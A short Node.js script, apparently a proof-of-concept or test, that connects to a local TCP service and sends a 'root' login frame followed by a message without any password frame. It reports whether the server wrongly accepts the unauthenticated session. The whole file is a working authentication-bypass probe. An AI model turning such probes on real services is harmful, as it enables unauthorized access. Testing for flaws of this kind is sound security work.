/** MESSAGE before PASSWORD: `node attack.mjs PORT`. */
import { connect } from 'node:net';

const frame = (code, text) => Buffer.from([code, text.length, 0, ...Buffer.from(text, 'latin1')]);
const socket = connect(Number(process.argv[2] ?? 6555), '127.0.0.1');
let replies = Buffer.alloc(0);
socket.on('data', (bytes) => {
  replies = Buffer.concat([replies, bytes]);
  if (replies.length === 2) socket.end();
});
socket.on('close', () => {
  const accepted = replies.equals(Buffer.of(0, 0));
  console.log(accepted ? 'accepted: logged without a password' : `refused: 0x${replies.toString('hex')}`);
  process.exitCode = accepted ? 0 : 1;
});
socket.write(Buffer.concat([frame(1, 'root'), frame(3, 'the vault is open')]));
